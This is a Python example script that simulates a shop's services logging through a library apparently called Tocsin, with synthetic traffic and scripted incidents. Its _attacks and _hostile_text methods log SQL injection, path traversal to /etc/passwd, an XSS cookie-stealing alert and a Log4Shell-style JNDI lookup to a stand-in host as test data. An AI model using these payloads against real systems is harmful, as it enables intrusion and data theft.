"""A shop that logs: how a service uses Tocsin's handler, and what to watch Tocsin work on.

Half of it logs with structlog, half with the logging module; one call, `producers.configure`, sends both
to Kafka or to a file. A shop pretends to be several services, each named in its events.

    python examples/service.py --bootstrap-servers localhost:9092 --rate 200
    python examples/service.py --path shop.jsonl --count 10000 --rate 0

Without `--no-incidents` the first three seconds hold a small disaster: failing payments, attacks in
requests, guessed passwords, and text that tries to misbehave where it is shown.
"""

from __future__ import annotations

import argparse
import contextlib
import datetime as dt
import itertools
import logging
import random
import signal
import sys
import time
from typing import TYPE_CHECKING

import structlog

import producers

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

_SERVICES = ("orders", "payments", "web", "auth", "inventory", "search", "shipping", "mail")
_PATHS = ("/", "/cart", "/orders", "/products/42", "/products/1207", "/search", "/account", "/checkout")
_PRODUCTS = ("kettle", "lamp", "notebook", "umbrella", "headphones", "backpack")
# At full speed nothing is left to the handler's limits: this many events on their way, then wait.
_MOST_PENDING = 20_000
_VIRTUAL_RATE = 1_000


class Clock(logging.Filter):
    """The time of events: now, or made up from a start and a rate so that runs can be repeated."""

    def __init__(self, start: dt.datetime | None, rate: float) -> None:
        super().__init__()
        self._start = start
        self._step = dt.timedelta(seconds=1 / (rate or _VIRTUAL_RATE))
        self.ticks = 0

    def now(self) -> dt.datetime:
        """Return the time of the current event."""
        if self._start is None:
            return dt.datetime.now(dt.UTC)
        return self._start + self.ticks * self._step

    def filter(self, record: logging.LogRecord) -> bool:
        """Give a record of the logging module the current event's time."""
        record.created = self.now().timestamp()
        return True


class PaymentDeclinedError(Exception):
    """The bank said no."""


class Bank:
    """A payment provider that has broken down."""

    def charge(self, order: int, amount: float) -> None:
        """Charge a customer; today, all banks say no."""
        try:
            self._connect()
        except ConnectionResetError as error:
            raise PaymentDeclinedError(f"order {order}: {amount:.2f} EUR not charged") from error

    def _connect(self) -> None:
        raise ConnectionResetError(104, "Connection reset by peer")


class Shop:
    """All services of the shop. Each step of its traffic logs exactly one event."""

    def __init__(self, services: int, seed: int, clock: Clock) -> None:
        extra = (f"service-{n:02}" for n in itertools.count(len(_SERVICES) + 1))
        self._names = tuple(itertools.islice(itertools.chain(_SERVICES, extra), services))
        self._random = random.Random(seed)
        self._clock = clock
        self._bank = Bank()
        # structlog: bound values travel with every event of the logger.
        self._logs = {
            n: structlog.get_logger(f"shop.{n}").bind(service=n) for n in (*self._names, "auth", "web")
        }
        # The logging module: the caller's fields travel with `extra=`.
        self._payments = logging.getLogger("shop.payments")

    def traffic(self, incidents: dict[int, Callable[[], Iterator[None]]]) -> Iterator[None]:
        """Log normal traffic for ever, with incidents at given events."""
        kinds = (self._request, self._order, self._payment)
        for n in itertools.count():
            if n in incidents:
                yield from incidents[n]()
            self._random.choices(kinds, weights=(6, 3, 1))[0]()
            yield

    def storm(self) -> Iterator[None]:
        """Log nothing but errors, each of them unique by its `n`."""
        for n in itertools.count():
            name = self._names[n % len(self._names)]
            self._logs[name].error("upstream unavailable", n=n, timestamp=self._clock.now(), status=503)
            yield

    def incidents(self, rate: float) -> dict[int, Callable[[], Iterator[None]]]:
        """Return what goes wrong in the first three seconds, by the number of normal events before."""
        script = (
            (0.2, self._attacks),
            (0.6, self._guessed_passwords),
            (1.0, self._failing_payments),
            (2.0, self._hostile_text),
            (2.5, self._last_disk),
        )
        return {int(second * (rate or _VIRTUAL_RATE)): incident for second, incident in script}

    # Normal traffic -------------------------------------------------------------------------------

    def _request(self) -> None:
        roll = self._random.random()
        log = self._log().info if roll > 0.035 else self._log().warning
        status = 200 if roll > 0.035 else self._random.choice((404, 429))
        if roll < 0.005:
            log, status = self._log().error, 502
        self._log_request(log, self._random.choice(_PATHS), status)

    def _order(self) -> None:
        self._log().info(
            "order placed",
            timestamp=self._clock.now(),
            order_id=self._random.randrange(10**6),
            customer=f"c-{self._random.randrange(10**5):05}",
            product=self._random.choice(_PRODUCTS),
            quantity=self._random.randint(1, 4),
            trace_id=f"{self._random.getrandbits(128):032x}",
            span_id=f"{self._random.getrandbits(64):016x}",
        )

    def _payment(self) -> None:
        # As a service would that knows nothing but the logging module.
        fields = self._payment_fields("payments" if "payments" in self._names else self._names[0])
        amount = self._random.uniform(5, 300)
        if self._random.random() < 0.02:
            self._payments.warning("payment of %.2f EUR took long", amount, extra=fields)
        else:
            self._payments.info("payment of %.2f EUR accepted", amount, extra=fields)

    def _log_request(self, log: Callable[..., object], path: str, status: int, **more: str) -> None:
        log(
            f"GET {path}",
            timestamp=self._clock.now(),
            status=status,
            duration_ms=round(self._random.expovariate(1 / 40), 1),
            client_ip=f"198.51.100.{self._random.randrange(256)}",
            trace_id=f"{self._random.getrandbits(128):032x}",
            span_id=f"{self._random.getrandbits(64):016x}",
            **more,
        )

    def _log(self) -> structlog.typing.FilteringBoundLogger:
        log: structlog.typing.FilteringBoundLogger = self._logs[self._random.choice(self._names)]
        return log

    def _payment_fields(self, service: str = "payments") -> dict[str, object]:
        return {
            "service": service,
            "order_id": self._random.randrange(10**6),
            "card": f"**** {self._random.randrange(10**4):04}",
            "trace_id": f"{self._random.getrandbits(128):032x}",
            "span_id": f"{self._random.getrandbits(64):016x}",
        }

    # Incidents ------------------------------------------------------------------------------------

    def _failing_payments(self) -> Iterator[None]:
        for _ in range(40):
            fields = self._payment_fields()
            try:
                self._bank.charge(self._random.randrange(10**6), self._random.uniform(5, 300))
            except PaymentDeclinedError as error:
                # No exc_info: the handler takes the exception along by itself.
                self._payments.error("payment failed: %s", error, extra=fields)
            yield

    def _attacks(self) -> Iterator[None]:
        for path in (
            "/products?id=1' UNION SELECT username, password FROM users--",
            "/static/../../../../etc/passwd",
            "/search?q=1 OR 1=1; DROP TABLE orders",
        ):
            self._log_request(self._logs["web"].warning, path, 400, user_agent="sqlmap/1.8")
            yield

    def _guessed_passwords(self) -> Iterator[None]:
        for user in (
            "root",
            "admin",
            "admin",
            "test",
            "postgres",
            "oracle",
            "admin",
            "admin",
            "guest",
            "admin",
        ):
            self._logs["auth"].warning(
                "login failed",
                timestamp=self._clock.now(),
                user=user,
                client_ip="203.0.113.9",
                reason="password",
            )
            yield

    def _hostile_text(self) -> Iterator[None]:
        for name in (
            "<!channel> free money",
            "<script>alert(document.cookie)</script>",
            "${jndi:ldap://x.test/a}",
        ):
            self._logs["web"].error("profile can't be saved", timestamp=self._clock.now(), display_name=name)
            yield

    def _last_disk(self) -> Iterator[None]:
        self._payments.critical("ledger is read-only: no space left on device", extra=self._payment_fields())
        yield


def _arguments() -> argparse.Namespace:
    parser = argparse.ArgumentParser(description="An example shop that logs through Tocsin's handler.")
    target = parser.add_mutually_exclusive_group()
    target.add_argument("--bootstrap-servers", help="Kafka's host:port; else KAFKA_BOOTSTRAP_SERVERS")
    target.add_argument("--path", metavar="FILE", help="write JSON lines to a file; - is standard output")
    parser.add_argument("--topic", default="logs")
    parser.add_argument("--rate", type=float, default=100, metavar="N", help="events a second; 0: no limit")
    parser.add_argument("--count", type=int, metavar="N", help="stop after so many events")
    parser.add_argument("--seconds", type=float, metavar="S", help="stop after so long")
    parser.add_argument("--services", type=int, default=4, metavar="N", help="how many services to pretend")
    parser.add_argument("--seed", type=int, default=1, help="the same seed logs the same events")
    parser.add_argument("--incidents", action=argparse.BooleanOptionalAction, default=True)
    parser.add_argument("--errors", action="store_true", help="nothing but errors, each unique by its n")
    parser.add_argument(
        "--start-time",
        type=dt.datetime.fromisoformat,
        metavar="TIME",
        help="date events from here, by the rate",
    )
    arguments = parser.parse_args()
    if arguments.services < 1 or arguments.rate < 0:
        parser.error("--services must be at least 1, --rate at least 0")
    if arguments.start_time is not None and arguments.start_time.tzinfo is None:
        arguments.start_time = arguments.start_time.replace(tzinfo=dt.UTC)
    return arguments


def _paced(
    steps: Iterator[None], handler: producers.KafkaHandler, options: argparse.Namespace
) -> Iterator[None]:
    """Take steps at the rate asked for, until the count or the time is reached."""
    began = time.monotonic()
    for n, step in enumerate(itertools.islice(steps, options.count)):
        yield step
        elapsed = time.monotonic() - began
        if options.seconds is not None and elapsed >= options.seconds:
            return
        if options.rate:
            ahead_s = (n + 1) / options.rate - elapsed
            # Sleeping is coarse: rather a few events at once than to fall behind.
            if ahead_s > 0.002:
                time.sleep(ahead_s)
        elif handler.pending > _MOST_PENDING:
            handler.flush(60)


def main() -> None:
    """Log until told to stop."""
    options = _arguments()
    # A service that is told to stop ends like any other script, so that its last events are flushed.
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    handler = producers.configure(
        service="shop",
        environment="example",
        topic=options.topic,
        bootstrap_servers=options.bootstrap_servers,
        path=options.path,
    )
    clock = Clock(options.start_time, options.rate)
    handler.addFilter(clock)
    shop = Shop(options.services, options.seed, clock)
    if options.errors:
        steps = shop.storm()
    else:
        steps = shop.traffic(shop.incidents(options.rate) if options.incidents else {})
    began = time.monotonic()
    with contextlib.suppress(KeyboardInterrupt):
        for _ in _paced(steps, handler, options):
            clock.ticks += 1
    handler.flush(60)
    seconds = time.monotonic() - began
    print(
        f"{clock.ticks} events in {seconds:.1f} s ({clock.ticks / seconds:,.0f}/s), "
        f"{sum(handler.dropped.values())} dropped, {handler.pending} not delivered",
        file=sys.stderr,
    )


if __name__ == "__main__":
    main()
